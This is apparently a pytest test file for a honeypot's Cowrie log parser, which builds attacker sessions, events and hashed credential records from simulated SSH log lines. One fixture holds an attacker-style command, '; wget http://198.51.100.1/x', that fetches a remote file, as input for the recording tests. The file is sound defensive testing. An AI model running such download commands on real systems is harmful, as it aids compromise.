"""Lines to facts, facts to sessions, sessions to events."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.bus.base import Event
from decnet.config import SensorSettings, Settings
from decnet.events.fields import epoch
from decnet.ids import session_id
from decnet.sensors import assembly
from decnet.sensors.cowrie import Fact
from decnet.sensors.files.tailer import Line
from decnet.sensors.sources import CowrieSource, JsonlSource, recorded_event
from decnet.sensors.values import Refusal
from tests.linekit import cowrie_line

FIXTURES = Path(__file__).parent.parent / "fixtures" / "cowrie"
RECORDED = sorted((FIXTURES / "recorded").glob("*/cowrie.json"))
HANDMADE = sorted((FIXTURES / "handmade").glob("*.json"))
KEY = b"k" * 32


@pytest.fixture(autouse=True)
def forgets_by_time_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """The log's time is what these tests are about; how much was read has tests of its own."""
    monkeypatch.setattr(assembly, "FORGET_LINES", 0)


def make(**sensor: Any) -> CowrieSource:
    return CowrieSource(Settings(sensor=SensorSettings(**sensor)), KEY)


def feed(source: CowrieSource | JsonlSource, data: bytes) -> list[Event]:
    return source.feed(Line("f", i, 0, x) for i, x in enumerate(data.split(b"\n"), 1) if x.strip())


def row(event: str, at: float = 0.0, session: str = "s1", **more: Any) -> bytes:
    raw = {"eventid": f"cowrie.{event}", "timestamp": 1_600_000_000 + at, "session": session, "sensor": "d1"}
    return json.dumps({**raw, "src_ip": "192.0.2.7", **more}).encode() + b"\n"


def of(events: list[Event], topic: str) -> list[dict[str, Any]]:
    return [e.payload for e in events if e.topic == f"attacker.{topic}"]


@pytest.mark.parametrize(
    ("event", "listed"), [("session.file_download", "downloads"), ("session.file_upload", "uploads")]
)
def test_a_file_has_the_time_when_it_came_first(event: str, listed: str) -> None:
    one, other = ({"url": f"http://203.0.113.9/{n}", "filename": n, "shasum": n * 64} for n in "ab")
    rows = [row(event, at, **fields) for at, fields in ((1, one), (2, one), (3, other), (4, one))]
    (ended,) = of(
        feed(make(), row("session.connect") + b"".join(rows) + row("session.closed", 9)), "session.ended"
    )
    assert [(item["sha256"][:1], item["ts"]) for item in ended[listed]] == [
        ("a", 1_600_000_001.0),
        ("b", 1_600_000_003.0),
    ]


@pytest.mark.parametrize("path", RECORDED, ids=lambda p: p.parent.name)
def test_every_recorded_version_gives_the_same_sessions(path: Path) -> None:
    source = make()
    events = feed(source, path.read_bytes())
    ended = of(events, "session.ended")
    assert len(ended) == len(of(events, "session.started")) == 7
    assert {p["end_reason"] for p in ended} == {"closed"}
    assert sum(p["command_count"] for p in ended) == len([c for p in ended for c in p["commands"]]) == 11
    assert sum(p["auth"]["fail_count"] for p in ended) == 5
    assert sum(p["auth"]["success"] for p in ended) == 5
    assert not source.refused
    typed = next(p for p in ended if p["attacker_ip"] == "127.0.0.22")
    assert typed["client"]["size"] == {"width": 120, "height": 40}
    assert typed["client"]["hassh"] == "f7add09247ea0d1ce316bb0f45028c68"
    assert typed["commands"][0]["id"] == typed["session_id"] + "#cmd0"
    (forward,) = next(p for p in ended if p["forwards"])["forwards"]
    assert (forward["host"], forward["port"]) == ("198.51.100.80", 80)
    assert forward["data"] == "b'GET / HTTP/1.0\\r\\nHost: www.example\\r\\n\\r\\n'"
    assert any(p["service"] == "telnet" for p in ended)
    text = json.dumps([e.payload for e in events])
    assert "hunter22" not in text


@pytest.mark.parametrize("path", HANDMADE, ids=lambda p: p.stem)
def test_handmade_shapes_end_as_sessions(path: Path) -> None:
    source = make()
    events = feed(source, path.read_bytes()) + source.end_all()
    assert of(events, "session.ended")
    for event in events:
        assert len(event.to_bytes()) < 262_144


def test_state_in_the_middle_gives_the_same_events() -> None:
    lines = RECORDED[-1].read_bytes().splitlines(keepends=True)
    whole = feed(make(), b"".join(lines))
    for cut in range(0, len(lines), 7):
        first, second = make(), make()
        events = feed(first, b"".join(lines[:cut]))
        second.restore(json.loads(json.dumps(first.to_state())))
        assert events + feed(second, b"".join(lines[cut:])) == whole


def test_eof_then_a_later_line_gives_the_full_session_again_with_another_id() -> None:
    source = make()
    feed(source, row("session.connect") + row("command.input", 1, input="id"))
    first = source.end_all()
    again = feed(source, row("command.input", 2, input="ls") + row("session.closed", 3))
    old, new = of(first, "session.ended")[0], of(again, "session.ended")[0]
    assert (old["end_reason"], new["end_reason"]) == ("eof", "closed")
    assert old["session_id"] == new["session_id"]
    assert [c["command_text"] for c in new["commands"]] == ["id", "ls"]
    assert first[-1].id != again[-1].id
    assert not of(again, "session.started")


def test_idle_limit_runs_on_log_time() -> None:
    source = make(idle_session_s=60)
    events = feed(source, row("session.connect") + row("session.connect", 61, session="s2"))
    assert [p["end_reason"] for p in of(events, "session.ended")] == ["idle"]
    assert of(events, "session.ended")[0]["ended_at"] == 1_600_000_000


def test_one_wild_date_does_not_end_the_others() -> None:
    source = make()
    wild = row("session.connect", 1e9, session="s2")
    events = feed(source, row("session.connect") + wild + row("command.input", 1, input="id"))
    assert not of(events, "session.ended")


def test_a_line_without_sensor_joins_its_session() -> None:
    source = make()
    bare = json.loads(row("command.input", 1, input="id"))
    del bare["sensor"]
    events = feed(
        source, row("session.connect") + json.dumps(bare).encode() + b"\n" + row("session.closed", 2)
    )
    assert of(events, "session.ended")[0]["command_count"] == 1


def test_long_sessions_come_in_parts_and_nothing_is_lost() -> None:
    source = make()
    data = row("session.connect")
    data += b"".join(row("command.input", i, input=f"{i} " + "x" * 3000) for i in range(300))
    parts = of(feed(source, data + row("session.closed", 301)), "session.ended")
    assert len(parts) > 3
    assert [p["part"] for p in parts] == list(range(1, len(parts) + 1))
    assert [c["id"].split("#")[1] for p in parts for c in p["commands"]] == [f"cmd{i}" for i in range(300)]


def test_a_command_longer_than_the_limit_is_kept_in_pieces() -> None:
    source = make(max_text=1000)
    text = "\U0001f600" * 2000 + "; wget http://198.51.100.1/x"
    events = feed(
        source, row("session.connect") + row("command.input", 1, input=text) + row("session.closed", 2)
    )
    ended = of(events, "session.ended")[0]
    assert ended["command_count"] == 1
    assert "wget http://198.51.100.1/x" in ended["commands"][-1]["command_text"]


def test_bounds_still_count() -> None:
    source = make(max_commands=2)
    data = row("session.connect") + b"".join(row("command.input", i, input="id") for i in range(5))
    ended = of(feed(source, data + row("session.closed", 9)), "session.ended")[0]
    assert (ended["command_count"], len(ended["commands"]), ended["commands_dropped"]) == (5, 2, 3)


def test_too_many_open_sessions_end_the_longest_idle_one() -> None:
    source = make(max_open_sessions=3)
    data = b"".join(row("session.connect", i, session=f"s{i}") for i in range(3))
    assert of(feed(source, data + row("command.input", 3, session="s0", input="id")), "session.ended") == []
    data = b"".join(row("session.connect", i, session=f"s{i}") for i in (4, 5))
    ended = of(feed(source, data), "session.ended")
    assert [(p["session_id"], p["end_reason"], p["ended_at"]) for p in ended] == [
        (session_id("cowrie", "d1", "s1"), "idle", 1_600_000_001.0),
        (session_id("cowrie", "d1", "s2"), "idle", 1_600_000_002.0),
    ]
    assert source.sessions() == {"open_sessions": 3, "evicted": 2, "homeless": 0, "unfinished": 0}


def test_secrets_leave_only_as_keyed_hmac() -> None:
    source = make()
    data = row("session.connect") + row("login.success", 1, username="root", password="s3cr3t-pw")
    events = feed(source, data + row("login.failed", 2, username="a", fingerprint="aa:bb", type="ssh-rsa"))
    found = [e.payload for e in events if e.topic == "credential.captured"]
    assert [f["secret_kind"] for f in found] == ["password", "publickey"]
    assert all(len(f["secret_hmac"]) == 64 for f in found)
    assert "s3cr3t-pw" not in json.dumps([e.payload for e in events] + [source.to_state()])


@pytest.mark.parametrize("text", ["2018-01-02T03:04:05Z", "2018-01-02T03:04:05", "2018-01-02T05:04:05+0200"])
def test_times_with_and_without_zone(text: str) -> None:
    assert epoch(text) == 1514862245


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
EVENTS = st.sampled_from(
    ["session.connect", "client.version", "client.kex", "login.success", "login.failed", "command.input",
     "command.failed", "session.file_download", "session.file_upload", "direct-tcpip.request", "client.size",
     "log.closed", "session.closed", "client.fingerprint", "nonsense"]
)  # fmt: skip
FIELDS = st.sampled_from(
    ["src_ip", "sensor", "protocol", "version", "kexAlgs", "hassh", "username", "password", "input", "url",
     "shasum", "duration", "duration_ms", "width", "height", "ttylog", "size", "dst_ip", "dst_port", "realm",
     "timestamp", "session", "message", "key", "filename"]
)  # fmt: skip


@given(st.binary(max_size=200))
def test_any_bytes_never_raise(data: bytes) -> None:
    assert isinstance(cowrie_line(data), (Fact, Refusal))
    recorded_event(data)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(EVENTS, st.dictionaries(FIELDS, JSON, max_size=6)), max_size=12))
def test_any_shape_of_fields_never_raises(rows: list[tuple[str, dict[str, Any]]]) -> None:
    source = make()
    lines = b""
    for i, (event, more) in enumerate(rows):
        raw = {**json.loads(row(event, i)), **more}
        lines += json.dumps(raw).encode() + b"\n"
    events = feed(source, lines) + source.end_all()
    for event in events:
        event.to_bytes()
    json.dumps(source.to_state(), allow_nan=False)


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        ({"topic": "system.ttp.control", "payload": {}}, "command_topic"),
        ({"topic": "decky.web.mutate_request", "payload": {}}, "command_topic"),
        ({"topic": "attacker.*", "payload": {}}, "bad_topic"),
        ({"topic": "attacker.observed"}, "no_payload"),
        ({"payload": {}}, "no_topic"),
    ],
)
def test_recorded_events_that_are_refused(raw: dict[str, Any], reason: str) -> None:
    assert recorded_event(json.dumps(raw).encode()) == Refusal(reason)


def test_recorded_event_without_id_gets_the_same_one_each_time() -> None:
    line = b'{"topic":"email.received","payload":{"a":1},"ts":5}'
    one, two = recorded_event(line), recorded_event(line)
    assert isinstance(one, Event)
    assert one == two
